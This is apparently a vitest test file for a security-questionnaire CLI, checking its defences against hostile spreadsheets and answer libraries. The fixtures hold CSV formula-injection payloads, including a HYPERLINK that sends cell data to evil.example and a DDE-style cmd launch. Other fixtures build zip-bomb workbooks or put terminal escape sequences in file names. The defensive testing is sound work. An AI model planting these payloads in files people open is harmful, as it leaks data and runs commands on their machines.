import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import ExcelJS from 'exceljs';
import { strToU8, zipSync } from 'fflate';
import { answer, type AnswerOptions } from '../../src/commands/answer';
import { formatDiagnostic, sortDiagnostics, UserError } from '../../src/diagnostics';
import { fillCsv } from '../../src/questionnaire';
import { files } from '../checks/helpers';
import { runCli } from '../helpers/project';
import { testdir } from '../helpers/testdir';
import { LIBRARY } from './library';

// Questionnaires and libraries written by someone hostile: a customer's spreadsheet, a pull request's answer.

const NOW = new Date('2026-07-01T12:00:00Z');

function run(root: string, options: Partial<AnswerOptions>) {
  return answer({ contentDir: path.join(root, 'content'), outDir: path.join(root, 'out'), now: NOW, ...options });
}

const FORMULA_LIBRARY = `- id: encryption-at-rest
  question: Is data encrypted at rest?
  answer: '=HYPERLINK("https://evil.example/?d="&A1,"Yes")'
  short: yes
  caiq: [CEK-03.1]
  audience: public
  reviewed: 2026-06-26

- id: backups
  question: How often are backups taken?
  answer: "@SUM(1+1)*cmd|' /C calc'!A0"
  short: n/a
  caiq: [BCR-08.1]
  audience: public
  reviewed: 2026-06-26

- id: retention
  question: How long is data retained?
  answer: "-30 days after the contract ends, then deleted."
  short: n/a
  caiq: [DSP-16.1]
  audience: public
  reviewed: 2026-06-26

- id: deletion
  question: Can we ask you to delete our data?
  answer: "\\t+Yes, on request."
  short: yes
  caiq: [DSP-02.1]
  audience: public
  reviewed: 2026-06-26
`;

describe('formula injection through the answered CSV and caiq-v4.csv', () => {
  const CSV = 'Question,Answer,Notes\nIs data encrypted at rest?,,=1+1\nHow often are backups taken?,,\nHow long is data retained?,,\nCan we ask you to delete our data?,,\n';

  test('every answer that opens like a formula is written after a single quote; the customer\'s own cells are left alone', async () => {
    const root = testdir({ ...files({ 'content/answers.yaml': FORMULA_LIBRARY }), 'acme.csv': CSV });
    const result = await run(root, { file: path.join(root, 'acme.csv') });
    expect(result.ok).toBe(true);
    expect(fs.readFileSync(path.join(root, 'out/answers/acme-answered.csv'), 'utf8')).toBe(
      [
        'Question,Answer,Notes,Confidence,Source',
        `Is data encrypted at rest?,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Yes"")",=1+1,high,encryption-at-rest`,
        `How often are backups taken?,'@SUM(1+1)*cmd|' /C calc'!A0,,high,backups`,
        `How long is data retained?,"'-30 days after the contract ends, then deleted.",,high,retention`,
        `Can we ask you to delete our data?,"'\t+Yes, on request.",,high,deletion`,
        '',
      ].join('\n'),
    );
  });

  test('caiq-v4.csv writes them the same way', async () => {
    const root = testdir(files({ 'content/answers.yaml': FORMULA_LIBRARY }));
    await run(root, { format: 'caiq' });
    expect(fs.readFileSync(path.join(root, 'out/answers/caiq-v4.csv'), 'utf8').split('\r\n')).toEqual([
      'Question ID,CSP CAIQ Answer,CSP Implementation Description',
      `BCR-08.1,NA,'@SUM(1+1)*cmd|' /C calc'!A0`,
      `CEK-03.1,Yes,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Yes"")"`,
      `DSP-02.1,Yes,"'\t+Yes, on request."`,
      `DSP-16.1,NA,"'-30 days after the contract ends, then deleted."`,
      '',
    ]);
  });

  test('each such answer is a warning at its place in the library', async () => {
    const root = testdir(files({ 'content/answers.yaml': FORMULA_LIBRARY }));
    const result = await run(root, { format: 'caiq' });
    expect(sortDiagnostics(result.diagnostics).map(formatDiagnostic)).toEqual([
      `content/answers.yaml:3:11  warning  Answer "encryption-at-rest" starts with "=", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "=HYPERLINK(\\"https://")  answers/formula-start`,
      `content/answers.yaml:11:11  warning  Answer "backups" starts with "@", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "@SUM(1+1)*cmd|' /C c")  answers/formula-start`,
      `content/answers.yaml:19:11  warning  Answer "retention" starts with "-", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "-30 days after the c")  answers/formula-start`,
      `content/answers.yaml:27:11  warning  Answer "deletion" starts with "\\t", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "\\t+Yes, on request.")  answers/formula-start`,
    ]);
  });
});

/** A minimal workbook from its sheets' XML (rows only), zipped as Excel does; `states` hides sheets. */
function workbook(sheets: Record<string, string>, options: { sharedStrings?: string; states?: Record<string, string>; level?: 0 | 1 | 9 } = {}): Buffer {
  const names = Object.keys(sheets);
  const enc = (s: string) => strToU8(s);
  const parts: Record<string, Uint8Array> = {
    '[Content_Types].xml': enc(
      `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>${names.map((_, i) => `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`).join('')}${options.sharedStrings === undefined ? '' : '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'}</Types>`,
    ),
    '_rels/.rels': enc(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    'xl/workbook.xml': enc(
      `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${names.map((n, i) => `<sheet name="${n}" sheetId="${i + 1}"${options.states?.[n] ? ` state="${options.states[n]}"` : ''} r:id="rId${i + 1}"/>`).join('')}</sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': enc(
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${names.map((_, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join('')}${options.sharedStrings === undefined ? '' : `<Relationship Id="rId${names.length + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>`}</Relationships>`,
    ),
  };
  names.forEach((n, i) => {
    parts[`xl/worksheets/sheet${i + 1}.xml`] = enc(`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheets[n]}</sheetData></worksheet>`);
  });
  if (options.sharedStrings !== undefined) parts['xl/sharedStrings.xml'] = enc(`<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${options.sharedStrings}</sst>`);
  return Buffer.from(zipSync(parts, { level: options.level ?? 6 }));
}

/** A row of inline-string cells: `row(4, ['Question', 'Answer'])`. */
function row(n: number, texts: readonly string[], attributes = ''): string {
  const cells = texts.map((t, i) => (t === '' ? '' : `<c r="${String.fromCharCode(65 + i)}${n}" t="inlineStr"><is><t>${t}</t></is></c>`)).join('');
  return `<row r="${n}"${attributes}>${cells}</row>`;
}

const QUESTIONS = row(1, ['Question', 'Answer']) + row(2, ['Is data encrypted in transit?']) + row(3, ['Where is the service hosted?']);

describe('questionnaires that would exhaust memory or the stack are refused, quickly, with nothing written', () => {
  const refusedWith = async (name: string, bytes: Buffer | string, message: string) => {
    const root = testdir({ ...files({ 'content/answers.yaml': LIBRARY }), [name]: bytes });
    const started = Date.now();
    await expect(run(root, { file: path.join(root, name) })).rejects.toThrow(new UserError(`${path.join(root, name)}${message}`));
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(fs.existsSync(path.join(root, 'out/answers'))).toBe(false);
  };

  test('a workbook that inflates past 50 MiB (a zip bomb of zeros)', async () => {
    const bomb = workbook({ Security: QUESTIONS + `<row r="4"><c r="A4" t="inlineStr"><is><t>${'0'.repeat(51 * 1024 * 1024)}</t></is></c></row>` }, { level: 9 });
    expect(bomb.length).toBeLessThan(200 * 1024);
    await refusedWith('bomb.xlsx', bomb, ': the workbook inflates to more than 50 MiB (at the part "xl/worksheets/sheet1.xml"), more than any questionnaire; it looks like a compression bomb and was not opened.');
  });

  test('a shared string that inflates past 50 MiB in a small workbook', async () => {
    const bytes = workbook({ Security: QUESTIONS }, { sharedStrings: `<si><t>${'a'.repeat(51 * 1024 * 1024)}</t></si>`, level: 9 });
    await refusedWith('strings.xlsx', bytes, ': the workbook inflates to more than 50 MiB (at the part "xl/sharedStrings.xml"), more than any questionnaire; it looks like a compression bomb and was not opened.');
  });

  test('a shared string longer than a cell can hold', async () => {
    const bytes = workbook({ Security: QUESTIONS }, { sharedStrings: `<si><t>short</t></si><si><r><t>${'a'.repeat(20_000)}</t></r><r><t>${'&amp;'.repeat(13_000)}</t></r></si>` });
    await refusedWith('long.xlsx', bytes, ": shared string 2 of the workbook holds more than 32,767 characters, more than a spreadsheet cell can (Excel's limit); shorten the cell that uses it.");
  });

  test('a cell longer than a cell can hold', async () => {
    const bytes = workbook({ Security: QUESTIONS + row(4, ['Is there a CISO?', 'x'.repeat(32_768)]) });
    await refusedWith('cell.xlsx', bytes, ": sheet \"Security\", cell B4 holds more than 32,767 characters, more than a spreadsheet cell can (Excel's limit); shorten it.");
  });

  test('a sheet of more than 20,000 rows', async () => {
    const rows = Array.from({ length: 20_001 }, (_, i) => row(i + 2, ['Is data encrypted in transit?'])).join('');
    await refusedWith('rows.xlsx', workbook({ Security: row(1, ['Question', 'Answer']) + rows }), ': sheet "Security" has more than 20,000 rows; a questionnaire is read up to row 20,000: delete the rows below the questions, or split the sheet.');
  });

  test('one row numbered past 20,000, which exceljs would fill with empty rows up to it', async () => {
    const bytes = workbook({ Security: QUESTIONS + '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>' });
    await refusedWith('far.xlsx', bytes, ': sheet "Security" has a row numbered 1,048,576; a questionnaire is read up to row 20,000: delete the rows below the questions, or split the sheet.');
  });

  test('a cell past column 1,024', async () => {
    const bytes = workbook({ Security: QUESTIONS + '<row r="4"><c r="AMK4" t="inlineStr"><is><t>x</t></is></c></row>' });
    await refusedWith('wide.xlsx', bytes, ': sheet "Security" has a cell in column AMK (column 1,025); a questionnaire is read up to column AMJ (1,024): delete the columns right of the answers.');
  });

  test('a workbook of more than 200,000 cells', async () => {
    const rows = Array.from({ length: 10_001 }, (_, r) => `<row r="${r + 2}">${Array.from({ length: 20 }, (_, c) => `<c r="${String.fromCharCode(65 + c)}${r + 2}"><v>1</v></c>`).join('')}</row>`).join('');
    await refusedWith('cells.xlsx', workbook({ Security: row(1, ['Question', 'Answer']) + rows }), ': the workbook has more than 200,000 cells; a questionnaire is read up to 200,000: delete what is not questions, or split the file.');
  });

  test('a CSV of 130,000 rows (1 MB), which overflowed the stack', async () => {
    await refusedWith('rows.csv', 'Question,Answer\n' + 'Is data encrypted in transit?,\n'.repeat(130_000), ':20001:1: the file has more than 20,000 rows; a questionnaire is read up to row 20,000: delete the rows below the questions, or split the file.');
  });

  test('a CSV header of a million columns', async () => {
    await refusedWith('wide.csv', 'Question,Answer' + ','.repeat(1_000_000) + '\nIs data encrypted in transit?,\n', ':1:1038: the row has more than 1,024 columns; a questionnaire is read up to 1,024: delete the columns right of the answers.');
  });

  test('a CSV cell longer than a cell can hold, quoted across lines', async () => {
    await refusedWith('cell.csv', `Question,Answer\nIs data encrypted in transit?,"${'line\n'.repeat(7_000)}"\n`, ":2:31: a field holds more than 32,767 characters, more than a spreadsheet cell can (Excel's limit); shorten it.");
  });

  test('the command exits 1 with the message and no stack trace', () => {
    const root = testdir({ ...files({ 'content/answers.yaml': LIBRARY }), 'rows.csv': 'Question,Answer\n' + 'Is data encrypted in transit?,\n'.repeat(130_000) });
    const result = runCli(['answer', 'rows.csv', '--content', 'content'], root);
    expect([result.status, result.stdout]).toEqual([1, '']);
    expect(result.stderr).toBe('trust-package: rows.csv:20001:1: the file has more than 20,000 rows; a questionnaire is read up to row 20,000: delete the rows below the questions, or split the file.\n');
    expect(fs.existsSync(path.join(root, 'out/answers'))).toBe(false);
  });

  test('a long CSV within the limits is answered, its width found without spreading its rows as arguments', () => {
    const table = { name: 'x.csv', rows: [['Question', 'Answer'], ...Array.from({ length: 150_000 }, () => ['q', ''])], mergeAt: () => undefined };
    const sheet = { name: 'x.csv', layout: { header: 0, question: 0, answer: 1 }, questions: [] };
    expect(fillCsv(table, { delimiter: ',', lineEnding: '\n', bom: false }, sheet).toString('utf8').split('\n', 2)).toEqual(['Question,Answer,Confidence,Source', 'q,']);
  });
});

describe('hidden sheets and rows', () => {
  const hiddenWorkbook = () =>
    workbook(
      {
        Security: QUESTIONS.replace('<row r="3">', '<row r="3" hidden="1">'),
        NDA: row(1, ['Question', 'Answer']) + row(2, ['Do you offer an uptime SLA?']),
        Old: row(1, ['Question', 'Answer']) + row(2, ['Can we ask you to delete our data?']),
      },
      { states: { NDA: 'veryHidden', Old: 'hidden' } },
    );

  test('are skipped, and the summary says which', async () => {
    const root = testdir({ ...files({ 'content/answers.yaml': LIBRARY }), 'acme.xlsx': hiddenWorkbook() });
    const result = await run(root, { file: path.join(root, 'acme.xlsx') });
    expect(result.answered?.map((s) => [s.name, s.questions.map((q) => q.question.row + 1)])).toEqual([['Security', [2]]]);
    expect(result.text?.split('\n').slice(0, 5)).toEqual([
      'sheet "Security": 1 question; header row 1, questions in A, answers in B',
      'sheet "Security": 1 hidden row not answered (row 3); INCLUDE_HIDDEN=1 answers hidden sheets and rows',
      'skipped sheet "NDA": the customer hid it (very hidden: no menu of a spreadsheet program shows it); INCLUDE_HIDDEN=1 answers hidden sheets and rows',
      'skipped sheet "Old": the customer hid it (hidden); INCLUDE_HIDDEN=1 answers hidden sheets and rows',
      '1 question: 1 answered (1 high, 0 medium), 0 left blank for review (0 low, 0 none)',
    ]);
    const answered = new ExcelJS.Workbook();
    await answered.xlsx.readFile(path.join(root, 'out/answers/acme-answered.xlsx'));
    expect(answered.getWorksheet('Security')!.getCell('B3').value).toBeNull();
    expect(answered.getWorksheet('NDA')!.getCell('B2').value).toBeNull();
    expect(answered.getWorksheet('NDA')!.state).toBe('veryHidden');
  });

  test('are answered when asked for', async () => {
    const root = testdir({ ...files({ 'content/answers.yaml': LIBRARY }), 'acme.xlsx': hiddenWorkbook() });
    const result = await run(root, { file: path.join(root, 'acme.xlsx'), includeHidden: true });
    expect(result.answered?.map((s) => [s.name, s.questions.map((q) => q.question.row + 1)])).toEqual([
      ['Security', [2, 3]],
      ['NDA', [2]],
      ['Old', [2]],
    ]);
    expect(result.text).not.toContain('hidden');
  });
});

describe('terminal escapes in file and sheet names', () => {
  test('reach the summary escaped, as verify and diff print them', async () => {
    const name = 'acme\u001b[2J\u202e.xlsx';
    const root = testdir({ ...files({ 'content/answers.yaml': LIBRARY }), [name]: workbook({ 'Sec\u009b31murity\u202e': QUESTIONS }) });
    const result = await run(root, { file: path.join(root, name) });
    expect(result.text).toContain('sheet "Sec\\x9b31murity\\u202e": 2 questions; header row 1, questions in A, answers in B\n');
    expect(result.text).toContain('acme\\x1b[2J\\u202e-answered.xlsx (answered copy; acme\\x1b[2J\\u202e.xlsx is unchanged)\n');
    expect(result.text).not.toMatch(/[\u001b\u009b\u202e]/);
  });
});
